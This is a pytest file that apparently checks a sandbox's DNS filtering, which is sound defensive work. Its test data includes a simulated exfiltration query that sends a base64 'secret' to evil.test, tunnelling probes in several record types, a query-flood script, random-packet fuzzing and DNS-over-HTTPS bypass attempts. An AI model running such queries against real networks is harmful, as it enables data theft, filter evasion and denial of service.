"""The slot's name server. Known faults 25 and 33; attack list: tunnelling, DNS over TCP and HTTPS."""

import struct
import subprocess

import pytest
from world import ALLOWED4, ALLOWED6, DNS4, GATEWAY4, GATEWAY6


@pytest.fixture(scope="module")
def guest(world):
    return world.guest({"mode": "allow", "allow": ["allowed.test", "*.tunnel.test", "raw.test"]})


def dig(guest, *args):
    r = guest.run("dig", "+tries=1", "+timeout=5", *args)
    status = [line for line in r.stdout.splitlines() if "status:" in line]
    answers = [line for line in guest.run("dig", "+short", "+tries=1", *args).stdout.splitlines() if line]
    return (status[0].split("status: ")[1].split(",")[0] if status else None), answers, r.stdout


def test_allowed_names_resolve_over_udp_and_tcp_on_both_families(guest):
    for server in (f"@{GATEWAY4}", f"@{GATEWAY6}"):
        for tcp in ("+notcp", "+tcp"):
            assert dig(guest, server, tcp, "allowed.test", "A")[:2] == ("NOERROR", [ALLOWED4])
            assert dig(guest, server, tcp, "allowed.test", "AAAA")[:2] == ("NOERROR", [ALLOWED6])


def test_known_fault_33_any_server_the_image_names_is_ours(guest, world):
    """An image's own resolv.conf may say 8.8.8.8: whoever is asked, the slot answers."""
    status, answers, _ = dig(guest, "@8.8.8.8", "allowed.test", "A")
    assert (status, answers) == ("NOERROR", [ALLOWED4])
    assert dig(guest, "@2001:4860:4860::8888", "allowed.test", "A")[0] == "NOERROR"
    # …even the real one: a direct query to it is answered by policy.
    assert dig(guest, f"@{DNS4}", "other.test", "A")[0] == "REFUSED"


def test_known_fault_25_a_denied_name_never_leaves(guest, world):
    for kind in ("A", "AAAA", "TXT", "MX", "NS", "ANY", "HTTPS", "NULL"):
        status, answers, text = dig(guest, f"@{GATEWAY4}", "c2VjcmV0.evil.test", kind)
        assert (status, answers) == ("REFUSED", []), kind
    assert "EDE: 18 (Prohibited)" in text and "no allow rule names it" in text
    assert "evil.test" not in world.dns_log.read_text()
    assert guest.log(event="refuse", protocol="dns", host="c2vjcmv0.evil.test")


def test_tunnelling_in_other_records_finds_nothing(guest, world):
    for kind in ("TXT", "MX", "NULL", "CNAME", "SRV", "HTTPS", "ANY"):
        assert dig(guest, f"@{GATEWAY4}", f"x{kind}.tunnel.test", kind)[:2] == ("NOERROR", []), kind
        assert f"x{kind}" not in world.dns_log.read_text()


def test_names_that_are_no_host_names_are_refused(guest):
    for name in ("a\\000b.allowed.test", "..", "exa mple.test", "\\255.test", "10.0.0.1"):
        assert dig(guest, f"@{GATEWAY4}", name, "A")[0] in ("REFUSED", "FORMERR", "NXDOMAIN", None), name


def test_a_flood_of_queries_is_bounded(world):
    """The world's egress takes 300 queries a second and sandbox; asked faster it refuses."""
    g = world.guest({"mode": "open"})
    code = (
        "import socket,struct,time\n"
        "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(0.05); s.connect(('192.0.0.1',53))\n"
        "q=struct.pack('!HHHHHH',7,256,1,0,0,0)+b'\\7allowed\\4test\\0\\0\\1\\0\\1'\n"
        "refused=ok=0; end=time.monotonic()+20\n"
        "while not refused and time.monotonic()<end:\n"
        "  for i in range(50): s.send(q)\n"
        "  try:\n"
        "    for i in range(50): r=s.recv(600)[3]&15; refused+=r==5; ok+=r==0\n"
        "  except OSError: pass\n"
        "print(ok,refused)"
    )
    ok, refused = map(int, g.python(code).split())
    assert ok >= 300 and refused > 0
    assert g.log(event="refuse", reason="rate_limit")


def test_dns_over_https_and_tls_are_sites_like_others(guest):
    assert guest.curl("-k", "https://8.8.8.8/dns-query?dns=AAAB").returncode == 35
    r = guest.run("dig", "+tls", "+timeout=3", "+tries=1", "@1.1.1.1", "allowed.test")
    assert "NOERROR" not in r.stdout


def test_localhost_is_answered_here(guest, world):
    assert dig(guest, f"@{GATEWAY4}", "localhost", "A")[:2] == ("NOERROR", ["127.0.0.1"])
    assert "localhost" not in world.dns_log.read_text()


def test_malformed_queries_do_not_hurt(guest):
    code = (
        "import socket,os,random\n"
        "random.seed(7)\n"
        "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
        "for i in range(300): s.sendto(os.urandom(random.randrange(0,900)),('192.0.0.1',53))\n"
        "for i in range(50):\n"
        "  c=socket.create_connection(('192.0.0.1',53),5); c.sendall(os.urandom(random.randrange(1,2000))); c.close()\n"
        "print('sent')"
    )
    assert guest.python(code) == "sent\n"
    assert dig(guest, f"@{GATEWAY4}", "allowed.test", "A")[:2] == ("NOERROR", [ALLOWED4])


def test_two_queries_in_one_tcp_segment(guest):
    q = struct.pack("!HHHHHH", 7, 256, 1, 0, 0, 0) + b"\7allowed\4test\0\0\1\0\1"
    both = (struct.pack("!H", len(q)) + q) * 2
    code = (
        "import socket\n"
        "s=socket.create_connection(('192.0.0.1',53),5)\n"
        f"s.sendall({both!r})\n"
        "b=b''\n"
        "while len(b)<2*48: b+=s.recv(1000)\n"
        "print(len(b))"
    )
    assert int(guest.python(code)) == 2 * (2 + len(q) + 16)


def test_the_pool_of_lookups_is_per_sandbox(guest):
    """getaddrinfo as libc does it, from many processes at once."""
    ps = [guest.popen("getent", "ahostsv4", "allowed.test", stdout=subprocess.PIPE, text=True) for _ in range(10)]
    assert all(ALLOWED4 in p.communicate(timeout=20)[0] for p in ps)
